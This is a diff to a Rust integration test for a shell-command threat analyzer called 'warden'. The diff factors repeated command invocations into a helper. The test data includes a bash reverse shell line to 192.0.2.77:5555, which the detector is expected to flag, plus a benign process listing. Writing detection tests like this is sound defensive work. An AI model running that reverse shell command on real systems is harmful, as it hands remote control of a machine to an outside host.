@@ -168,6 +168,22 @@ fn corpus(path: &std::path::Path) {
     writeln!(f, r#"{{"text": "no label"}}"#).unwrap();
 }
 
+/// `warden analyze ARGS PATH TEXT` (PATH: the store or model the last argument names), its
+/// verdict.
+fn analyze(args: &[&str], path: &std::path::Path, text: &str) -> serde_json::Value {
+    let out = warden()
+        .arg("analyze")
+        .args(args)
+        .arg(path)
+        .arg(text)
+        .assert()
+        .success()
+        .get_output()
+        .stdout
+        .clone();
+    json(&out)
+}
+
 #[test]
 fn a_trained_model_is_registered_and_used() {
     let dir = tempfile::tempdir().unwrap();
@@ -220,30 +236,16 @@ fn a_trained_model_is_registered_and_used() {
     .unwrap();
     assert_eq!(m["kind"], "payload-linear");
     assert_eq!(m["summary"]["training_rows"], 400);
-    let out = warden()
-        .args(["analyze", "--shell", "bash", "--store"])
-        .arg(&store)
-        .arg("bash -i >& /dev/tcp/192.0.2.77/5555 0>&1")
-        .assert()
-        .success()
-        .get_output()
-        .stdout
-        .clone();
-    let v = json(&out);
+    let v = analyze(
+        &["--shell", "bash", "--store"],
+        &store,
+        "bash -i >& /dev/tcp/192.0.2.77/5555 0>&1",
+    );
     assert!(v["views"]["model"].as_f64().unwrap() > 50.0, "{v}");
     assert!(!v["model"]["raised_by"].as_array().unwrap().is_empty());
     // Listing processes is in every benign text of its kind here: the model's training
     // texts weigh that pattern down, and the verdict says how many texts it rests on.
-    let out = warden()
-        .args(["analyze", "--shell", "sh", "--model"])
-        .arg(&model)
-        .arg("ps aux | grep sshd")
-        .assert()
-        .success()
-        .get_output()
-        .stdout
-        .clone();
-    let v = json(&out);
+    let v = analyze(&["--shell", "sh", "--model"], &model, "ps aux | grep sshd");
     let p = v["patterns"]
         .as_array()
         .and_then(|ps| ps.iter().find(|p| p["id"] == "process-discovery"))
